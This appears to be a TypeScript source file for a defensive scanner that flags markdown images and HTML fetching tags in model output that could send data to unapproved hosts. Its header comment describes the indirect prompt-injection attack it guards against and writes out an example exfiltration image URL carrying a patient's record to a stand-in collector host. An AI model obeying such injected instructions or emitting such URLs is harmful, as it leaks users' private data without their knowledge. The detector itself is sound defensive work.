/**
 * Images in model output that would carry data out: the zero-click exfiltration channel of
 * indirect prompt injection. An injected document tells the model to "render" an image whose
 * URL holds what it read (`![](https://collector.example/p.png?d=<the patient's record>)`); the
 * agent's chat client fetches the image as soon as it shows the answer, and the data has left
 * without any tool call for policy to stop (Bing Chat, ChatGPT plugins, Slack AI, and
 * Microsoft 365 Copilot's EchoLeak, CVE-2025-32711, which used reference-style images to get
 * past link redaction). Links need a click and show their address first, so only what is
 * fetched on display is flagged: markdown images, inline and reference-style (a reference
 * definition is flagged whatever uses it), and HTML elements that fetch on display (`<img src>`,
 * `srcset`, `<video poster>`, `<iframe src>`, ...).
 *
 * An image counts when its URL, resolved against the page as a browser resolves it, is http(s)
 * to a host the operator did not allow, and can carry data: a query string, user info, or a
 * path segment long enough to hold an encoded value. A static picture
 * (`https://cdn.example/charts/q3.png`) is left alone.
 *
 * The scan is linear: one pass over the brackets, `indexOf` for tags, and reads of URLs and
 * attributes charged to a budget proportional to the text (its two regexes have no unbounded
 * repetition), so hostile output (thousands of unclosed brackets or tags) cannot make it
 * quadratic; a text that spends the budget is reported from there on (fail closed).
 */

export const EXFIL_LINK = 'EXFIL_LINK';

/** A longer URL is not read as one (web servers refuse request lines far shorter). */
const MAX_URL = 65_536;
/** Text between a URL and its `)` (a title) longer than this is not one construct. */
const MAX_TITLE = 1_000;
/** Brackets nested deeper than this are not paired (cmark has a limit of its kind too). */
const MAX_NESTING = 32;
/**
 * Characters the URL and attribute reads may look at, per character of text, beyond the
 * text itself: unclosed targets can make reads overlap, and a text that spends it all is
 * hostile. Then the rest of it is reported (fail closed), with this in place of a URL.
 */
const BUDGET_PER_CHAR = 8;
const EXHAUSTED = '\u0000exhausted';

interface Budget { left: number }

/** The page a relative URL is resolved against: a name no real host has (.invalid, RFC 2606). */
const PAGE_HOST = 'page.portcullis.invalid';
const PAGE = `https://${PAGE_HOST}/chat/`;
/** A path segment this long can hold an encoded value; file names and slugs are shorter. */
const DATA_SEGMENT = 24;

export interface ImageLink {
  /** The whole construct: `![alt](url "title")`, `[ref]: url` or `<img ...>` (one entry per URL a tag fetches). */
  readonly start: number;
  readonly end: number;
  readonly url: string;
}

export interface ExfilLink extends ImageLink {
  /** Where the data would go: the URL's host, safe to show (it is the attacker's, not the user's). */
  readonly host: string;
}

/** Every image construct in `text`, in order; unclosed ones (a stream's unfinished tail) are not. */
function findImageLinks(text: string): ImageLink[] {
  const found: ImageLink[] = [];
  findMarkdownImages(text, found, { left: BUDGET_PER_CHAR * text.length + MAX_URL });
  findHtmlImages(text, found, { left: BUDGET_PER_CHAR * text.length + MAX_URL });
  if (found.length > 1) found.sort((a, b) => a.start - b.start);
  return found;
}

/** The images of `text` that would send data to a host `allowed` does not accept. */
export function findExfilLinks(text: string, allowed: (host: string) => boolean): ExfilLink[] {
  // Most model output has no image at all: two searches and done.
  if (!text.includes('](') && !text.includes(']:') && !hasFetchingTag(text)) return [];
  const out: ExfilLink[] = [];
  for (const link of findImageLinks(text)) {
    const host = exfilHost(link.url, allowed);
    if (host !== undefined) out.push({ ...link, host });
  }
  return out;
}

/** The URL's host if fetching it would send data to a host not allowed, else undefined. */
export function exfilHost(raw: string, allowed: (host: string) => boolean): string | undefined {
  if (raw === EXHAUSTED) return 'unknown';
  let url: URL;
  try {
    // Resolved as a browser resolves it against the page (WHATWG URL), so the host judged is the
    // host fetched: "//host", "\\host" and "HTTPS:host" all leave the page's origin.
    url = new URL(raw, PAGE);
  } catch {
    return undefined; // not a URL a browser would fetch
  }
  if (url.protocol !== 'https:' && url.protocol !== 'http:') return undefined;
  const host = url.hostname;
  if (host === PAGE_HOST) return undefined; // relative: the page's own origin
  if (allowed(host)) return undefined;
  const carries = url.search.length > 1 || url.username !== '' || url.password !== ''
    || url.pathname.split('/').some((segment) => segment.length >= DATA_SEGMENT);
  return carries ? host : undefined;
}

/**
 * Where an image construct that is not finished yet may start at the end of a streamed text
 * (`text.length` when none may): the caller holds that much back until it is whole, since the
 * agent's client renders the whole answer and an image released in pieces would still be
 * fetched. How long to hold is the caller's call (see neutralizeUnfinished).
 */
export function unfinishedImageStart(text: string): number {
  // `![alt](url` with no `)` yet, or a lone `!` that may become `![`.
  let from = unfinishedMarkdownImage(text);
  if (from === text.length && text.charCodeAt(text.length - 1) === 0x21) from = text.length - 1;
  // A reference definition being written on the last line: `[ref]: url`.
  const lineStart = text.lastIndexOf('\n') + 1;
  if (lineStart < from && /^ {0,3}\[/.test(text.slice(lineStart, lineStart + 4))) from = lineStart;
  // `<img ...` (or another fetching tag) not closed yet, or a tail that may still become one.
  return Math.min(from, unfinishedTagStart(text));
}

/**
 * `text` with any image or fetching tag it leaves unfinished over more than `longerThan`
 * characters made inert (`![` escaped to `!\[`, `<img` to `&lt;img`): what a stream releases
 * when an unfinished image grew too long to hold, so that the rest of it, arriving later,
 * cannot complete it in the agent's client. Shorter unfinished tails stay as written.
 */
export function neutralizeUnfinished(text: string, longerThan: number): string {
  const bang = unfinishedMarkdownImage(text);
  if (text.length - bang > longerThan) text = `${text.slice(0, bang)}!\\[${text.slice(bang + 2)}`;
  const tag = unfinishedTagStart(text);
  // Only a whole tag name: a lone `<` or `<im` at the end cannot fetch, and stays as written.
  if (text.length - tag > longerThan && FETCHING_TAGS.has(text.slice(tag + 1, tagNameEnd(text.toLowerCase(), tag + 1)).toLowerCase())) {
    text = `${text.slice(0, tag)}&lt;${text.slice(tag + 1)}`;
  }
  return text;
}

/** Where the last `![` opens an image that `text` does not complete, else `text.length`. */
function unfinishedMarkdownImage(text: string): number {
  const bang = text.lastIndexOf('![');
  return bang !== -1 && !completeAt(text, bang) ? bang : text.length;
}

/** The first fetching HTML tag in `text` that is not closed yet (or may become one), else `text.length`. */
function unfinishedTagStart(text: string): number {
  if (!text.includes('<')) return text.length;
  const lower = text.toLowerCase();
  const budget = { left: BUDGET_PER_CHAR * text.length + MAX_URL };
  for (let at = lower.indexOf('<'); at !== -1; at = lower.indexOf('<', at + 1)) {
    const nameEnd = tagNameEnd(lower, at + 1);
    const name = lower.slice(at + 1, nameEnd);
    if (nameEnd === text.length) return [...FETCHING_TAGS].some((tag) => tag.startsWith(name)) ? at : text.length;
    if (!FETCHING_TAGS.has(name)) continue;
    const after = lower.charCodeAt(nameEnd);
    if (after !== 0x20 && after !== 0x0a && after !== 0x09 && after !== 0x0d && after !== 0x2f) continue;
    if (readAttributes(text, lower, nameEnd, budget) === undefined || budget.left < 0) return at;
  }
  return text.length;
}

/** Whether the `![` at `bang` opens an image that is complete within `text`. */
function completeAt(text: string, bang: number): boolean {
  const found: ImageLink[] = [];
  const rest = text.slice(bang);
  findMarkdownImages(rest, found, { left: BUDGET_PER_CHAR * rest.length + MAX_URL });
  return found[0]?.start === 0 && found[0].url !== EXHAUSTED;
}

/**
 * One forward pass over the brackets, as CommonMark pairs them: a stack of open `[` (nested
 * labels such as `![a [b] c](url)` pair correctly), and at each `]` a look at what follows.
 * After a complete construct the pass resumes at its end: constructs do not nest in URLs.
 */
function findMarkdownImages(text: string, out: ImageLink[], budget: Budget): void {
  const open: number[] = [];
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    if (c === 0x5b /* [ */) {
      if (open.length === MAX_NESTING) open.shift();
      open.push(i);
      continue;
    }
    if (c !== 0x5d /* ] */ || open.length === 0) continue;
    const label = open.pop() as number;
    const after = text.charCodeAt(i + 1);
    let found: ImageLink | undefined;
    if (after === 0x28 /* ( */ && label > 0 && text.charCodeAt(label - 1) === 0x21 /* ! */) {
      const target = inlineTarget(text, i + 2, budget);
      if (target !== undefined) found = { start: label - 1, end: target.end, url: target.url };
    } else if (after === 0x3a /* : */ && atLineStart(text, label)) {
      const target = definitionTarget(text, i + 2, budget);
      if (target !== undefined) found = { start: label, end: target.end, url: target.url };
    }
    if (budget.left < 0) {
      // Hostile output (thousands of unclosed targets): fail closed over what is left.
      out.push({ start: label > 0 && text.charCodeAt(label - 1) === 0x21 ? label - 1 : label, end: text.length, url: EXHAUSTED });
      return;
    }
    if (found !== undefined) {
      out.push(found);
      open.length = 0;
      i = found.end - 1;
    }
  }
}

/** `(url)`, `(<url>)` or `(url "title")` from just after the `(`: the URL and the end after `)`. */
function inlineTarget(text: string, from: number, budget: Budget): { url: string; end: number } | undefined {
  let i = skipBlanks(text, from);
  const begin = i;
  let url: string;
  if (text.charCodeAt(i) === 0x3c /* < */) {
    const gt = text.indexOf('>', i + 1);
    if (gt === -1 || gt - i > MAX_URL) {
      budget.left -= Math.min(MAX_URL, text.length - i);
      return undefined;
    }
    url = text.slice(i + 1, gt);
    i = gt + 1;
  } else {
    // Up to white space or the `)` that balances the ones opened in the URL, as CommonMark reads it.
    const start = i;
    let depth = 0;
    const limit = Math.min(text.length, i + MAX_URL);
    for (; i < limit; i++) {
      const c = text.charCodeAt(i);
      if (c === 0x20 || c === 0x0a || c === 0x09 || c === 0x0d) break;
      if (c === 0x28) depth++;
      else if (c === 0x29) {
        if (depth === 0) break;
        depth--;
      }
    }
    if (i === limit && limit < text.length) {
      budget.left -= i - begin;
      return undefined;
    }
    url = text.slice(start, i);
  }
  const paren = text.indexOf(')', i);
  budget.left -= i - begin + Math.min(MAX_TITLE, (paren === -1 ? text.length : paren) - i);
  // A title may follow the URL; anything longer than that before `)` is not this construct.
  if (paren === -1 || paren - i > MAX_TITLE) return undefined;
  return url === '' ? undefined : { url, end: paren + 1 };
}

/** `[ref]: url` from just after the `:`: the URL, which ends the construct (a title may follow). */
function definitionTarget(text: string, from: number, budget: Budget): { url: string; end: number } | undefined {
  const i = skipBlanks(text, from);
  let end = i;
  const limit = Math.min(text.length, i + MAX_URL);
  while (end < limit) {
    const c = text.charCodeAt(end);
    if (c === 0x20 || c === 0x0a || c === 0x09 || c === 0x0d) break;
    end++;
  }
  budget.left -= end - i;
  let url = text.slice(i, end);
  if (url.startsWith('<') && url.endsWith('>')) url = url.slice(1, -1);
  return url === '' ? undefined : { url, end };
}

/**
 * HTML elements a markdown renderer may pass through that fetch on display, and the attributes
 * they fetch from (`srcset` holds several URLs). Links (`<a href>`) need a click: not here.
 */
const FETCHING_TAGS = new Set(['img', 'image', 'source', 'video', 'audio', 'track', 'iframe', 'embed', 'object', 'input']);
const FETCHING_ATTRIBUTES = new Set(['src', 'srcset', 'poster', 'href', 'xlink:href', 'data', 'background']);
const LONGEST_TAG = 6;
const MAX_SRCSET = 32;

function findHtmlImages(text: string, out: ImageLink[], budget: Budget): void {
  if (!hasFetchingTag(text)) return;
  const lower = text.toLowerCase();
  for (let at = lower.indexOf('<'); at !== -1; at = lower.indexOf('<', at + 1)) {
    const nameEnd = tagNameEnd(lower, at + 1);
    if (!FETCHING_TAGS.has(lower.slice(at + 1, nameEnd))) continue;
    const after = lower.charCodeAt(nameEnd);
    if (after !== 0x20 && after !== 0x0a && after !== 0x09 && after !== 0x0d && after !== 0x2f) continue; // <imgx, <img>
    const tag = readAttributes(text, lower, nameEnd, budget);
    if (budget.left < 0) {
      // Tags opened inside tags (or quotes never closed) made the reads overlap: fail closed.
      out.push({ start: at, end: text.length, url: EXHAUSTED });
      return;
    }
    if (tag === undefined) continue; // not closed yet: no browser fetches it
    for (const url of tag.urls) out.push({ start: at, end: tag.end, url });
  }
}

/** Where the tag name starting at `from` ends (letters only, at most LONGEST_TAG + 1 read). */
function tagNameEnd(lower: string, from: number): number {
  let i = from;
  while (i < lower.length && i - from <= LONGEST_TAG) {
    const c = lower.charCodeAt(i);
    if (c < 0x61 || c > 0x7a) break;
    i++;
  }
  return i;
}

/**
 * A tag's attributes from `from` to its `>` as a browser reads them (a `>` inside a quoted value
 * does not end the tag): the URLs the fetching attributes name (each of a `srcset`'s), and where
 * the tag ends; undefined when it does not end in `text`.
 */
function readAttributes(text: string, lower: string, from: number, budget: Budget): { urls: string[]; end: number } | undefined {
  const urls: string[] = [];
  const seen = new Set<string>();
  let i = from;
  const done = (end: number) => {
    budget.left -= end - from;
    return end;
  };
  while (i < text.length) {
    const c = text.charCodeAt(i);
    if (c === 0x3e /* > */) return { urls, end: done(i + 1) };
    if (c === 0x20 || c === 0x0a || c === 0x09 || c === 0x0d || c === 0x2f) {
      i++;
      continue;
    }
    const nameStart = i;
    while (i < text.length && !' \n\t\r=/>'.includes(text[i] as string)) i++;
    const name = lower.slice(nameStart, i);
    while (i < text.length && ' \n\t\r'.includes(text[i] as string)) i++;
    if (text.charCodeAt(i) !== 0x3d /* = */) continue; // an attribute without a value
    i++;
    while (i < text.length && ' \n\t\r'.includes(text[i] as string)) i++;
    let value: string;
    const quote = text.charCodeAt(i);
    if (quote === 0x22 || quote === 0x27) {
      const close = text.indexOf(String.fromCharCode(quote), i + 1);
      if (close === -1) {
        done(text.length);
        return undefined;
      }
      value = text.slice(i + 1, close);
      i = close + 1;
    } else {
      const start = i;
      while (i < text.length && text.charCodeAt(i) > 0x20 && text.charCodeAt(i) !== 0x3e) i++;
      value = text.slice(start, i);
    }
    // A browser keeps the first of a repeated attribute, so only that one can fetch.
    if (!FETCHING_ATTRIBUTES.has(name) || seen.has(name)) continue;
    seen.add(name);
    if (name === 'srcset') {
      const candidates = value.split(',');
      // More candidates than any real srcset has: hostile, and reported whole (fail closed).
      if (candidates.length > MAX_SRCSET) urls.push(EXHAUSTED);
      else for (const candidate of candidates) {
        const url = candidate.trim().split(/\s/, 1)[0];
        if (url !== undefined && url !== '') urls.push(url);
      }
    } else if (value.trim() !== '') urls.push(value.trim());
  }
  done(text.length);
  return undefined;
}

function hasFetchingTag(text: string): boolean {
  return /<(?:img|image|source|video|audio|track|iframe|embed|object|input)[\s/]/i.test(text);
}

function skipBlanks(text: string, i: number): number {
  let newlines = 0;
  for (; i < text.length; i++) {
    const c = text.charCodeAt(i);
    if (c === 0x0a && ++newlines <= 1) continue;
    if (c !== 0x20 && c !== 0x09 && c !== 0x0d) break;
  }
  return i;
}

/** Whether `at` starts a line, after at most three spaces (where CommonMark reads a definition). */
function atLineStart(text: string, at: number): boolean {
  for (let i = at - 1, spaces = 0; i >= 0; i--, spaces++) {
    const c = text.charCodeAt(i);
    if (c === 0x0a) return true;
    if (c !== 0x20 || spaces >= 3) return false;
  }
  return true;
}
